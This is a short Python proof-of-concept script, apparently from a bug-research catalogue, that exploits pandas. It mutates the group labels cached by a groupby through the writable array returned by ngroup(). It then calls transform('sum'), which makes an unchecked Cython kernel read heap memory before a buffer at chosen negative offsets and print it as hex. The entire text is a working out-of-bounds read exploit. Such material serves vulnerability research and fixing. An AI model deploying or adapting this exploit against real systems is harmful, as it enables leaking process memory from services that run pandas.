# source: pandas/core/groupby/groupby.py ngroup() aliasing group_info[0]; SeriesGroupBy._wrap_transform_fast_result -> algorithms.take_nd -> _libs algos_take_helper take_1d_* (@boundscheck(False))
# family: writable internal index arrays of pandas objects (the groupby's cached labels, reached through ngroup()) used unchecked by Cython kernels
# goal: out-of-bounds heap read at chosen negative offsets: transform("sum") takes the per-group sums at the rewritten labels (< -1), reading memory before the buffer
import numpy as np
import pandas as pd

N = 40
df = pd.DataFrame({"k": np.arange(N) % 4, "v": np.ones(N, dtype=np.int64)})
gb = df.groupby("k")
print("normal transform:", gb.v.transform("sum").tolist()[:8])
lab = gb.ngroup().values
lab[:] = -2 - np.arange(N)
r = gb.v.transform("sum")
print("words before the 4-element sums buffer:")
print([hex(int(t)) for t in r.values])
